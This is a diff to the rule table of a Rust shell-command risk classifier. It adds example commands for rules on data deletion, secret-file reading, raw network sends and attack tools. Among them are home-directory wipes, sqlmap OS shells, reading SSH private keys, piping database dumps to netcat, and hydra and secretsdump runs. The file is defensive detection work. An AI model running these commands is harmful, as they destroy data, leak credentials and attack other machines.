@@ -198,6 +198,7 @@ pub static RULES: &[Rule] = &[
             "pwsh -Command 'Remove-Item -Path $env:USERPROFILE -Recurse'",
             "pwsh -c 'ri -r -fo D:/'",
             "cmd.exe /c 'cd /d C:\\ & rmdir /S /Q C:\\Users\\me'",
+            "elixir -e 'File.rm_rf!(System.user_home!())'",
         ],
         counterexamples: &[
             "wsl.exe --unregister Ubuntu -- rm -rf ~",
@@ -1091,6 +1092,8 @@ pub static RULES: &[Rule] = &[
             "gs -dNOSAFER -dBATCH -dNODISPLAY ~/Downloads/invoice.ps",
             "gs -dDELAYSAFER -o out.pdf -sDEVICE=pdfwrite in.ps",
             "ps2pdf -dSAFER=false doc.ps",
+            "sqlmap -u 'https://shop.example.com/item.php?id=1' --batch --os-shell",
+            "sqlmap -r req.txt --os-cmd=whoami",
         ],
         counterexamples: &[
             "find . -exec grep -l x {} +",
@@ -1115,6 +1118,7 @@ pub static RULES: &[Rule] = &[
             "gs -dSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m -o page.png doc.pdf",
             "gs -q -dNOPAUSE -dBATCH -sDEVICE=pdfwrite -sOutputFile=out.pdf in.pdf",
             "gs -dNOSAFER=false doc.ps",
+            "sqlmap -u 'https://shop.example.com/item.php?id=1' --batch --dbs",
         ],
     },
     Rule {
@@ -1310,6 +1314,7 @@ pub static RULES: &[Rule] = &[
             "go install github.com/acme/gen@latest",
             "go run --help",
             "go run ./tools/x@y",
+            "go run tools/gen@latest",
         ],
     },
     Rule {
@@ -1373,7 +1378,17 @@ pub static RULES: &[Rule] = &[
         tier: Danger,
         sentence: "Reads a file that holds keys, passwords or tokens.",
         check: C(|c| {
-            let read = reads::read_words(c);
+            // cmd.exe told only to list (`cmd.exe /c dir /a
+            // "%USERPROFILE%\.ssh"`): names, no file's contents.
+            let lists_only = c.is(&["cmd", "cmd.exe"])
+                && interpreters::inline_code(c)
+                    .flatten()
+                    .is_some_and(super::windows_code::cmd_only_lists);
+            let read = if lists_only {
+                Vec::new()
+            } else {
+                reads::read_words(c)
+            };
             let redirected = c
                 .redirects()
                 .iter()
@@ -1410,11 +1425,13 @@ pub static RULES: &[Rule] = &[
                 || reads::served_folder(c).is_some_and(|d| holds_secrets(c.ctx, d) || is_secret(c.ctx, d))
                 || super::secrets::secret_file_option(c)
                 || reads::finder_runs_on_secrets(c)
-                // Inline code that opens a secret file by name.
+                // Inline code that opens a secret file by name (not
+                // cmd.exe's that only lists: `dir "%USERPROFILE%\.ssh"`).
                 || interpreters::inline_code(c).flatten().is_some_and(|code| {
-                    interpreters::code_paths(code).any(|s| is_secret(c.ctx, &s))
-                        || (interpreters::bare_words_name_files(c)
-                            && interpreters::code_words(code).any(|w| is_secret(c.ctx, w)))
+                    !lists_only
+                        && (interpreters::code_paths(code).any(|s| is_secret(c.ctx, &s))
+                            || (interpreters::bare_words_name_files(c)
+                                && interpreters::code_words(code).any(|w| is_secret(c.ctx, w))))
                 })
         }),
         examples: &[
@@ -1556,6 +1573,7 @@ pub static RULES: &[Rule] = &[
             "openssl rsa -in certs/server.crt -noout -text",
             "openssl pkey -in tls/site.crt -text",
             "yt-dlp --cookies-from-browser firefox --skip-download https://example.com/v",
+            "cmd.exe /c type '%USERPROFILE%\\.ssh\\id_rsa'",
         ],
         counterexamples: &[
             "rsync -av --delete --dry-run ~/ /tmp/home-mirror/",
@@ -1663,6 +1681,9 @@ pub static RULES: &[Rule] = &[
             "openssl x509 -in certs/server.crt -noout -text",
             "yt-dlp -f best https://example.com/v",
             "openssl rsa -in - -check",
+            "cmd.exe /c dir /a '%USERPROFILE%\\.ssh'",
+            "dir -la ~/.ssh",
+            "vdir ~/.aws",
         ],
     },
     Rule {
@@ -2181,6 +2202,7 @@ pub static RULES: &[Rule] = &[
             "pnpm add --global pnpm",
             "yarn global add serve",
             "bun add -g x",
+            "chezmoi apply --dry-run=false",
         ],
         counterexamples: &[
             "ls -o /usr/bin/git",
@@ -2514,6 +2536,8 @@ pub static RULES: &[Rule] = &[
             "firewall-cmd --permanent --zone=trusted --add-source=0.0.0.0/0",
             "firewall-cmd --reload",
             "firewall-offline-cmd --add-port=22/tcp",
+            "useradd -D -s /bin/zsh",
+            "modprobe -v wireguard",
         ],
         counterexamples: &[
             "networksetup -listallnetworkservices",
@@ -2637,6 +2661,8 @@ pub static RULES: &[Rule] = &[
             "firewall-cmd --state",
             "firewall-cmd --query-port=22/tcp",
             "firewall-cmd --get-active-zones",
+            "modprobe -n -v wireguard",
+            "useradd -D",
         ],
     },
     Rule {
@@ -2666,6 +2692,8 @@ pub static RULES: &[Rule] = &[
             "chmod 000 ~",
             "chmod 700 $HOME/",
             "chmod 755 /usr",
+            "icacls.exe 'C:\\Users\\dev\\proj' /grant 'dev:(OI)(CI)F' /t",
+            "takeown /f build /r",
         ],
         counterexamples: &[
             "tldr chown",
@@ -2687,6 +2715,8 @@ pub static RULES: &[Rule] = &[
             "chmod u+w,g+w f",
             "chmod ug+x f",
             "chmod --reference=a.txt b.txt",
+            "icacls.exe 'C:\\Users\\dev\\proj'",
+            "setcap -v cap_net_raw+ep /usr/bin/ping",
         ],
     },
     Rule {
@@ -2860,6 +2890,9 @@ pub static RULES: &[Rule] = &[
             "pwsh -c 'Get-Process | ForEach-Object { Stop-Process $_ }'",
             "expect -c 'spawn ls [exec id]'",
             "latexmk -e 'system(q{rm -rf build})' -pdf docs/paper.tex",
+            "mix run -e 'System.cmd(\"rm\", [\"-rf\", \"deps\"])'",
+            "mix run --eval 'File.rm_rf!(\"_build\")'",
+            "iex -e 'File.rm_rf!(\"deps\")'",
         ],
         counterexamples: &[
             "nvim --headless -c 'echo &runtimepath' -c 'qa!'",
@@ -2933,6 +2966,9 @@ pub static RULES: &[Rule] = &[
             "awk -F, '{print $2}' f",
             "latexmk -e '$pdf_mode = 1;' paper.tex",
             "latexmk -pdf -interaction=nonstopmode paper.tex",
+            "mix run -e 'IO.puts(:hello)'",
+            "mix test",
+            "mix run priv/repo/seeds.exs",
         ],
     },
     Rule {
@@ -3020,6 +3056,65 @@ pub static RULES: &[Rule] = &[
         ],
     },
     Rule {
+        code: "net.raw_send",
+        tier: Danger,
+        sentence: "Sends another machine what it reads over a raw connection (netcat, socat, telnet), in no protocol askrisky can read.",
+        check: C(tools::sends_raw),
+        examples: &[
+            "mysqldump --all-databases | gzip | ncat 198.51.100.7 9000",
+            "nc 203.0.113.9 9000 < data.csv",
+            "tar cz src | nc -q 1 203.0.113.9 9000",
+            "nc -w 3 files.example.net 9000 <<< \"$(cat notes.md)\"",
+            "socat -u OPEN:backup.sql TCP:203.0.113.9:9000",
+            "pg_dump app | socat - TCP4:db-copy.example.net:5432",
+            "echo hello | telnet 203.0.113.9 25",
+        ],
+        counterexamples: &[
+            "nc -z 203.0.113.9 22",
+            "nc -zv db.internal 5432",
+            "echo PING | nc localhost 6379",
+            "printf 'stats\\n' | nc -w 1 127.0.0.1 11211",
+            "nc 203.0.113.9 80",
+            "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+            "socat -u OPEN:backup.sql TCP:127.0.0.1:9000",
+            "socat -V",
+            "cat data.csv | wc -l",
+        ],
+    },
+    Rule {
+        code: "net.attack",
+        tier: Danger,
+        sentence: "Runs a tool made to scan, brute-force or break into other machines, at one that is not this machine.",
+        check: C(tools::attacks_host),
+        examples: &[
+            "nmap -sV scanme.example.com",
+            "nmap -p- 10.0.0.0/24",
+            "nmap -iL targets.txt",
+            "hydra -l admin -P pw.txt ssh://10.0.0.5",
+            "nikto -h https://shop.example.com",
+            "masscan -p1-65535 10.0.0.0/8 --rate 10000",
+            "sqlmap -u 'https://shop.example.com/item.php?id=1' --batch --dbs",
+            "secretsdump.py corp/admin:Passw0rd@10.0.0.5",
+            "impacket-psexec corp/admin@10.0.0.5",
+            "nxc smb 192.168.1.0/24 -u admin -p Passw0rd",
+            "ffuf -w words.txt -u https://shop.example.com/FUZZ",
+            "nmap localhost scanme.example.com",
+        ],
+        counterexamples: &[
+            "nmap -sV localhost",
+            "nmap -p 8080 127.0.0.1",
+            "nikto -h http://127.0.0.1:8080",
+            "ffuf -w words.txt -u http://localhost:3000/FUZZ",
+            "sqlmap -u 'http://127.0.0.1:5000/item?id=1' --batch",
+            "nmap --version",
+            "python3 services.py",
+            "./reg.py",
+            "smbclient -L //fileserver -N",
+            "hashcat -m 0 hashes.txt words.txt",
+            "nmap -sL 192.168.10.0/24",
+        ],
+    },
+    Rule {
         code: "net.upload_unnamed",
         tier: Danger,
         sentence: "Sends another machine a file whose name is only known when it runs.",
@@ -3095,6 +3190,7 @@ pub static RULES: &[Rule] = &[
             "docker run -v /home:/h x",
             "docker run --privileged=true x",
             "docker run --priv x",
+            "act -j e2e --container-options \"--privileged -v /:/host\"",
         ],
         counterexamples: &[
             "cargo test --all",
@@ -3107,6 +3203,7 @@ pub static RULES: &[Rule] = &[
             "docker run -v /tmp/data:/data x",
             "docker run -v /home/user/project:/src x",
             "docker run -v \"$PWD\":/app x",
+            "act -j e2e --container-options \"--cpus 2\"",
         ],
     },
     Rule {
@@ -3584,7 +3681,6 @@ pub static RULES: &[Rule] = &[
             "restic forget --keep-last 3",
             "pipx uninstall-all",
             "liquibase dropAll",
-            "kopia snapshot delete k123",
             "nix-collect-garbage -d",
             "nomad-pack destroy app",
             "kafka-topics.sh --bootstrap-server k:9092 --delete --topic t",
@@ -3632,6 +3728,7 @@ pub static RULES: &[Rule] = &[
             "supabase functions disable hello",
             "s5cmd --numworkers=8 rm 's3://acme-prod/2024/*'",
             "s5cmd --dry-run=false rm 's3://a/*'",
+            "kopia snapshot delete k3f8a9b1 --delete",
         ],
         counterexamples: &[
             "screen -wipe",
@@ -3740,6 +3837,7 @@ pub static RULES: &[Rule] = &[
             "ml purge",
             "module unload cuda/12.1",
             "module swap gcc/12 gcc/13",
+            "kopia snapshot delete k3f8a9b1",
         ],
     },
     Rule {
@@ -3843,6 +3941,9 @@ pub static RULES: &[Rule] = &[
             "gh pr merge --auto --merge 7",
             "steamcmd +login builder +run_app_build /home/user/project/steam/app_build.vdf +quit",
             "steamcmd +login \"$USER_NAME\" +workshop_build_item item.vdf +quit",
+            "liquibase rollback-count --count=5 --changelog-file=db/changelog.xml",
+            "atlas schema apply --url \"$DB_URL\" --auto-approve --dry-run=false",
+            "rush publish --publish --include-all",
         ],
         counterexamples: &[
             "gpg --recv-keys 0x8A3F2C1D9E7B6A54",
@@ -3964,6 +4065,9 @@ pub static RULES: &[Rule] = &[
             "gh pr checkout 12",
             "steamcmd +login anonymous +app_update 740 validate +quit",
             "multipass transfer ./build/app.tar dev-vm:/home/ubuntu/",
+            "liquibase update-sql --changelog-file=db/changelog.xml",
+            "liquibase rollback-count-sql --count=2",
+            "rush publish --include-all",
         ],
     },
     Rule {
@@ -4132,6 +4236,8 @@ pub static RULES: &[Rule] = &[
             "dropdb prod",
             "mysqladmin -u root drop app",
             "psql -c 'truncate table t cascade'",
+            "pg_restore --clean -d \"$DATABASE_URL\" snap.dump",
+            "pg_restore -c -d app x.dump",
         ],
         counterexamples: &[
             "psql -h db app -c 'EXPLAIN DELETE FROM users'",
@@ -4149,6 +4255,9 @@ pub static RULES: &[Rule] = &[
             "psql -c \"SELECT 'DROP TABLE x'\"",
             "grep -r 'DROP TABLE' migrations/",
             "createdb test",
+            "pg_restore -d app x.dump",
+            "pg_restore --clean -f out.sql x.dump",
+            "pg_restore -l x.dump",
         ],
     },
     Rule {
